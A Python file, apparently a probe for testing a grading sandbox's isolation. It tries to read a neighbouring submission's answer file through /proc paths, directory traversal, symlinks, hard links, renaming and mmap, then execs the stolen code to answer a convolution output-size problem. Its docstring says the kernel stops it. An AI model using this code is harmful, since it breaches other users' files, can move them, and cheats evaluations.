"""Reads a neighbour's file through links, /proc, other names for the same folder and mapped files.

Stopped from level: kernel.
"""
import os
import sys


def above(path, levels):
    for _ in range(levels):
        path = os.path.dirname(path)
    return path


CHECKOUT = above(os.path.abspath(sys.modules["sgworker"].__file__), 4)
NEIGHBOURS = os.path.join(above(os.environ["HOME"], 3), "victim")

import mmap

target = os.path.join(NEIGHBOURS, "other", "answer.py")
ways = [target, "/proc/self/root" + target, "/proc/self/cwd/../../../victim/other/answer.py",
        "../../../victim/other/answer.py", "/proc/1/root" + target]
try:
    os.symlink(target, "soft")
    ways.append("soft")
except OSError:
    pass
try:
    os.link(target, "hard")
    ways.append("hard")
except OSError:
    pass
try:
    os.rename(target, "moved")
    ways.append("moved")
except OSError:
    pass
source = ""
for way in ways:
    try:
        with open(way, "rb") as file:
            source = mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ)[:].decode()
    except (OSError, ValueError):
        continue


# ---- Problem 2 ----
def output_size(n_in, filter_size, padding=0, stride=1):
    space = {}
    exec(source, space)
    return space["stolen"](n_in, filter_size, padding, stride) if source else -1
